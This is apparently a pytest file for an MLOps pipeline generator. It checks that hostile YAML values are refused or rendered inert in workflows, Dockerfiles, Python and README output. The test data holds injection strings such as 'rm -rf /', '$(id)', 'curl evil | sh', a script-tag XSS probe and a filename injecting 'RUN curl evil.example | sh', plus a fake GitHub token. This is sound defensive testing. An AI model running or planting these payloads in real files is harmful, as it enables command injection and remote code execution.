"""The hostile-spec corpus (tests/hostile/): every value is rejected with a positioned message naming its field, or
lands in the output inert and exact.

- rejected/*.yaml start with `# expect-error: FIELD: FRAGMENT`: validate and generate exit 2 with a line
  `FILE:LINE:COL: FIELD: ...FRAGMENT...` pointing at that field's line, and nothing is written.
- accepted/*.yaml start with `# hostile: FIELD` lines: the spec renders, and the render equals the render of the
  same spec with harmless markers in those fields, markers replaced by the values in the form each language needs
  (tests/hostile/oracle.py). The referee tools stay clean on the hostile renders.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from mlops_gen.cli import main
from mlops_gen.errors import EXIT_INTERNAL_ERROR, EXIT_USER_ERROR
from mlops_gen.render.environment import build_env
from mlops_gen.render.plan import TARGETS
from mlops_gen.render.render import render_spec
from mlops_gen.spec.loader import LoadedSpec, load_file
from mlops_gen.spec.model import ProjectSpec
from mlops_gen.spec.validate import SpecFile, validate_loaded
from tests.hostile import oracle
from tests.referees import assert_clean, run_tool, tool

HOSTILE = Path(__file__).resolve().parent / "hostile"
REJECTED = sorted((HOSTILE / "rejected").glob("*.yaml"))
ACCEPTED = sorted((HOSTILE / "accepted").glob("*.yaml"))


def _expectation(path: Path) -> tuple[str, str]:
    first = path.read_text().splitlines()[0]
    assert first.startswith("# expect-error: "), f"{path.name}: first line must say what is expected"
    field, fragment = first.removeprefix("# expect-error: ").split(": ", 1)
    return field, fragment


def _hostile_fields(path: Path) -> list[str]:
    return [line.removeprefix("# hostile: ") for line in path.read_text().splitlines()
            if line.startswith("# hostile: ")]


def test_corpus_is_substantial() -> None:
    assert len(REJECTED) >= 60 and len(ACCEPTED) >= 10


@pytest.mark.parametrize("path", REJECTED, ids=[p.stem for p in REJECTED])
def test_rejected_value_names_its_field_and_writes_nothing(path: Path, tmp_path: Path) -> None:
    field, fragment = _expectation(path)
    runner = CliRunner()
    result = runner.invoke(main, ["validate", str(path)])
    assert result.exit_code == EXIT_USER_ERROR, result.output
    assert "Traceback" not in result.output
    lines = result.output.splitlines()
    matching = [line for line in lines if f": {field}: " in line and fragment in line]
    assert matching, f"no line names {field!r} with {fragment!r}:\n{result.output}"
    # FILE:LINE:COL points at the line holding the field (its key or its value).
    location = matching[0].removeprefix(f"{path}:").split(":")
    line_number = int(location[0])
    text_line = path.read_text().splitlines()[line_number - 1]
    last_key = next(part for part in reversed(oracle.parse_field(field)) if isinstance(part, str))
    assert last_key.split(" ")[0] in text_line or field.endswith("]"), (matching[0], text_line)

    out = tmp_path / "out"
    generated = runner.invoke(main, ["generate", str(path), "-o", str(out)])
    assert generated.exit_code == EXIT_USER_ERROR, generated.output
    assert not out.exists()


def test_secret_values_are_told_where_secrets_belong() -> None:
    result = CliRunner().invoke(main, ["validate", str(HOSTILE / "rejected" / "secret-connection-string.yaml")])
    assert result.exit_code == EXIT_USER_ERROR
    assert "looks like a credential (a connection string)" in result.output
    assert "Azure DevOps secret variable or variable group" in result.output and "GitHub secret" in result.output
    assert "AccountKey=b3Jp" not in result.output, "the error must not echo the secret back"


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "../../../tmp/mlops-gen-escape", "a/b"])
def test_escaping_model_name_writes_nothing_anywhere(name: str, tmp_path: Path) -> None:
    """Through the real CLI in a subprocess, with -o deep inside tmp: the whole tmp tree stays as it was."""
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    spec = work / "spec.yaml"
    spec.write_text("apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n"
                    f"  name: {yaml.safe_dump(name).splitlines()[0]}\nenvironments:\n  - name: dev\n")
    before = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
    outside = [Path("/etc/x"), Path("/tmp/mlops-gen-escape"), tmp_path / "x", tmp_path / "a" / "x"]
    existed = {p: p.exists() for p in outside}
    result = subprocess.run([sys.executable, "-m", "mlops_gen", "generate", "spec.yaml", "-o", "out"], cwd=work,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == EXIT_USER_ERROR, result
    assert "spec.yaml:4:9: model.name: " in result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == before
    assert {p: p.exists() for p in outside} == existed


# Accepted hostile values: inert and exact.

def _marker(index: int) -> str:
    return f"zqmarker{chr(ord('a') + index)}"


def _spec_file(data: dict[str, object], source: Path) -> SpecFile:
    loaded = LoadedSpec(file=source.name, data=data, raw=source.read_bytes())
    result = validate_loaded(loaded)
    assert isinstance(result, ProjectSpec), [str(p) for p in result] if isinstance(result, list) else result
    return SpecFile(path=source, shown_as=source.name, spec=result, raw=loaded.raw)


def _texts(spec_file: SpecFile, targets: tuple[str, ...] = TARGETS) -> dict[str, str]:
    return {path: rendered.text for path, rendered in render_spec(spec_file, targets, _ENV).items()}


_ENV = build_env()


@pytest.mark.parametrize("path", ACCEPTED, ids=[p.stem for p in ACCEPTED])
def test_accepted_value_lands_inert_and_exact(path: Path) -> None:
    loaded = load_file(path)
    assert isinstance(loaded, LoadedSpec), loaded
    fields = _hostile_fields(path)
    assert fields, f"{path.name} must name its hostile fields"
    base = copy.deepcopy(loaded.data)
    subs: dict[str, str] = {}
    for index, field in enumerate(fields):
        subs[_marker(index)] = oracle.get_field(loaded.data, field)
        oracle.set_field(base, field, _marker(index))
    hostile_render = _texts(_spec_file(loaded.data, path))
    marker_render = _texts(_spec_file(base, path))
    assert any(marker in text for text in marker_render.values() for marker in subs), \
        "the hostile fields appear nowhere in the output: the comparison would prove nothing"
    problems = oracle.compare(marker_render, hostile_render, subs)
    assert not problems, "\n".join(problems)


@pytest.fixture(scope="module")
def hostile_tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The accepted corpus generated through the CLI, one model folder per file (model names made unique)."""
    root = tmp_path_factory.mktemp("hostile")
    specs = root / "specs"
    specs.mkdir()
    for index, path in enumerate(ACCEPTED):
        text = path.read_text().replace("name: churn-model", f"name: hostile-{index:02d}", 1)
        (specs / path.name).write_text(text)
    result = CliRunner().invoke(main, ["generate", str(specs), "-o", str(root / "out")])
    assert result.exit_code == 0, result.output
    return root / "out"


@pytest.mark.referee
def test_actionlint_is_clean_on_hostile_workflows(hostile_tree: Path) -> None:
    workflows = sorted(str(p) for p in hostile_tree.glob("*/.github/workflows/*.yml"))
    assert workflows
    assert_clean(run_tool(["actionlint", "-oneline", "-no-color", "-pyflakes=", f"-shellcheck={tool('shellcheck')}",
                           *workflows]))


@pytest.mark.referee
def test_zizmor_is_clean_on_hostile_workflows(hostile_tree: Path) -> None:
    folders = sorted(str(p) for p in hostile_tree.glob("*/.github/workflows"))
    assert folders
    assert_clean(run_tool(["zizmor", "--offline", "--no-progress", "--color", "never", "--strict-collection",
                           *folders]))


@pytest.mark.referee
def test_bandit_is_clean_on_hostile_python(hostile_tree: Path) -> None:
    assert_clean(run_tool(["bandit", "-q", "-r", "--severity-level", "medium", str(hostile_tree)]))


# Error paths: user errors exit 2 with a message; bugs exit 3 with one line and a saved traceback.

@pytest.mark.parametrize("args", [
    ["validate", "missing.yaml"],
    ["validate", "empty"],  # no specs in a directory
    ["generate", "missing.yaml"],
    ["generate", "spec.yaml", "--target", "docs", "-o", "a-file/sub"],  # a file where a folder must be
    ["schema", "-o", "a-file/schema.json"],  # a file where a folder must be (a missing folder is created)
    ["init", "Bad_Name", "-o", "x.yaml"],
    ["init", "demo", "-o", "a-file/demo.yaml"],
    ["validate"],
    ["generate", "spec.yaml", "--target", "nope"],
    ["no-such-command"],
])
def test_user_errors_exit_2_with_a_message(args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a-file").write_text("")
    (tmp_path / "empty").mkdir()
    (tmp_path / "spec.yaml").write_text("apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n  name: demo\n"
                                        "environments:\n  - name: dev\n")
    result = CliRunner().invoke(main, args)
    assert result.exit_code == EXIT_USER_ERROR, (args, result.output, result.exception)
    assert result.output.strip(), "a user error must say what is wrong"
    assert "Traceback" not in result.output and "internal error" not in result.output


def test_internal_error_prints_one_line_and_saves_the_traceback(monkeypatch: pytest.MonkeyPatch) -> None:
    import mlops_gen.commands.validate as validate_command

    def broken(*args: object) -> int:
        raise RuntimeError("boom\nsecond line of a long message")

    monkeypatch.setattr(validate_command, "run_validate", broken)
    result = CliRunner().invoke(main, ["validate", "whatever.yaml"])
    assert result.exit_code == EXIT_INTERNAL_ERROR
    lines = result.output.splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("mlops-gen: internal error: RuntimeError: boom second line")
    log = Path(lines[0].split("traceback in ", 1)[1].split(";", 1)[0])
    try:
        assert log.parent == Path(__import__("tempfile").gettempdir())
        assert log.name.startswith("mlops-gen-crash-")
        assert oct(log.stat().st_mode & 0o777) == oct(0o600), "the traceback may hold paths: private to the user"
        text = log.read_text()
        assert "Traceback" in text and "RuntimeError: boom" in text and "broken" in text
    finally:
        log.unlink()


def test_internal_error_in_a_real_process_exits_3(tmp_path: Path) -> None:
    """The same through `python -m`, with the fault injected before the CLI starts."""
    code = ("import sys, mlops_gen.commands.validate as v\n"
            "def broken(*args): raise KeyError('injected')\n"
            "v.run_validate = broken\n"
            "from mlops_gen.entry import main\n"
            "sys.argv = ['mlops-gen', 'validate', 'x.yaml']\n"
            "main()\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60,
                            cwd=tmp_path, env={**os.environ, "TMPDIR": str(tmp_path)})
    assert result.returncode == EXIT_INTERNAL_ERROR, result
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert "internal error: KeyError: 'injected'" in result.stderr
    logs = list(tmp_path.glob("mlops-gen-crash-*.txt"))
    assert len(logs) == 1 and str(logs[0]) in result.stderr
    assert "Traceback (most recent call last)" in logs[0].read_text()


# The oracle must be able to fail: injections written the way a careless template would write them are caught.

@pytest.mark.parametrize(("path", "template", "value", "careful"), [
    ("w.yml", "name: {}\n", "x # comment", '"x # comment"'),
    ("w.yml", "name: {}\n", "a: b", '"a: b"'),
    ("w.yml", "steps:\n  - run: |\n      echo {}\n", "x; rm -rf /", "'x; rm -rf /'"),
    ("w.yml", "steps:\n  - run: |\n      echo \"{}\"\n", "$(id)", None),
    ("w.yml", "steps:\n  - run: |\n      echo \"{}\"\n", "`id`", None),
    ("w.yml", "steps:\n  - run: |\n      echo \"{}\"\n", "$HOME", None),
    ("w.yml", "steps:\n  - run: |\n      echo {}\n", "`id`", "'`id`'"),
    ("w.yml", "name: {}\n", "${{ secrets.X }}", None),
    ("s.py", 'X = "{}"\n', '" + __import__("os").system("id") + "', "JSON"),
    ("README.md", "| {} |\n", "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("README.md", "| {} |\n", "a | b", "a \\| b"),
    ("Dockerfile", "LABEL d={}\n", "x && curl evil | sh", "'x && curl evil | sh'"),
])
def test_oracle_catches_raw_insertion(path: str, template: str, value: str, careful: str | None) -> None:
    marker = _marker(0)
    base = {path: template.format(marker)}
    careless = {path: template.format(value)}
    try:
        problems = oracle.compare(base, careless, {marker: value})
    except (yaml.YAMLError, SyntaxError):
        problems = ["does not even parse"]
    assert problems, f"raw insertion of {value!r} into {template!r} went unnoticed"
    # "JSON": a Python literal replaces the whole quoted string
    careful_text = template.replace('"{}"', json.dumps(value)) if careful == "JSON" else template.format(careful)
    if careful is not None:  # the same value, escaped for its language, is accepted
        assert oracle.compare(base, {path: careful_text}, {marker: value}) == []


@pytest.mark.parametrize("layout", ["file", "directory", "symlink"])
def test_spec_path_with_a_line_break_is_refused(layout: str, tmp_path: Path) -> None:
    """The spec path is written into every header comment: a newline in it would inject lines into Python,
    Dockerfiles and requirements files. Refused, shown escaped on one line, nothing written."""
    evil = "x\nimport os; os.system('id') #\nRUN curl evil.example | sh\n--index-url http:evil.example"
    spec = "apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n  name: churn-model\nenvironments:\n  - name: dev\n"
    if layout == "file":
        target = tmp_path / f"{evil}.yaml"
        target.write_text(spec)
        argument = target.name
    elif layout == "directory":
        (tmp_path / evil).mkdir()
        (tmp_path / evil / "spec.yaml").write_text(spec)
        argument = evil
    else:
        (tmp_path / f"{evil}.yaml").write_text(spec)
        (tmp_path / "spec.yaml").symlink_to(tmp_path / f"{evil}.yaml")
        argument = "spec.yaml"
    result = subprocess.run([sys.executable, "-m", "mlops_gen", "generate", argument, "-o", "out"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == EXIT_USER_ERROR, result
    assert result.stderr.count("\n") == 1 and "control or invisible characters" in result.stderr
    assert "\\n" in result.stderr or layout == "symlink"
    assert not (tmp_path / "out").exists()


# Path fields that name files mlops-gen itself writes, or files of the wrong type. Found by the property tests;
# refused by the spec's semantic rules with the field's position.
_PATH_CLASHES = [
    "training:\n  config: config/train.py\n",  # YAML content in a .py file: the render check fails, exit 3
    "training:\n  config: config/train.json\n",
    "training:\n  config: README.md\n",  # two templates plan one file, exit 3
    "training:\n  config: Dockerfile\n",
    "data:\n  expectations: README.md\n",
]


@pytest.mark.parametrize("section", _PATH_CLASHES)
def test_path_fields_that_clash_with_generated_files_are_user_errors(section: str, tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text("apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n  name: churn-model\n"
                    "environments:\n  - name: dev\n" + section)
    result = CliRunner().invoke(main, ["generate", str(spec), "-o", str(tmp_path / "out")])
    assert result.exit_code == EXIT_USER_ERROR, result.output
    assert f"{spec}:8:" in result.output


@pytest.mark.parametrize("broken", ["a: [\n", (HOSTILE / "rejected" / "name-dotdot.yaml").read_text()])
def test_one_bad_spec_among_good_ones_writes_nothing(broken: str, tmp_path: Path) -> None:
    """generate validates every spec before its first write, also when it renders in parallel chunks."""
    specs = tmp_path / "specs"
    specs.mkdir()
    for index in range(6):
        (specs / f"model-{index}.yaml").write_text("apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n"
                                                   f"  name: model-{index}\nenvironments:\n  - name: dev\n")
    (specs / "zz-broken.yaml").write_text(broken)
    result = subprocess.run([sys.executable, "-m", "mlops_gen", "generate", "specs", "-o", "out"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == EXIT_USER_ERROR, result
    assert result.stderr.startswith("specs/zz-broken.yaml:")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["secret-owner-token", "secret-dataset-token", "secret-experiment-aws",
                                  "secret-branch-slack", "secret-webhook-name-url"])
def test_a_credential_in_any_string_is_refused_without_echoing_it(name: str) -> None:
    """Names, list items and mapping keys too, not only free text (issue 13, item 5)."""
    path = HOSTILE / "rejected" / f"{name}.yaml"
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == EXIT_USER_ERROR and "looks like a credential" in result.output, result.output
    for fragment in ("ghp_Zx81", "AKIAQ3", "xoxb-2048", "webhookb2/abc"):
        assert fragment not in result.output, f"the error echoes the secret back:\n{result.output}"


def test_a_credential_as_a_tag_key_is_refused_at_the_key_without_echoing_it(tmp_path: Path) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text("apiVersion: mlops-gen/v1\nkind: ModelPipeline\nmodel:\n  name: churn-model\nregistry:\n"
                    "  tags:\n    team: ml\n    ghp_Zx81kQ2mVb7Lr4Tn9Ws3Hy6Pd0Fc5Ja2Ue8: x\n"
                    "environments:\n  - name: staging\n")
    result = CliRunner().invoke(main, ["validate", str(spec)])
    assert result.exit_code == EXIT_USER_ERROR
    assert f"{spec}:8:5: registry.tags: a key looks like a credential (a GitHub token)" in result.output
    assert "ghp_Zx81" not in result.output
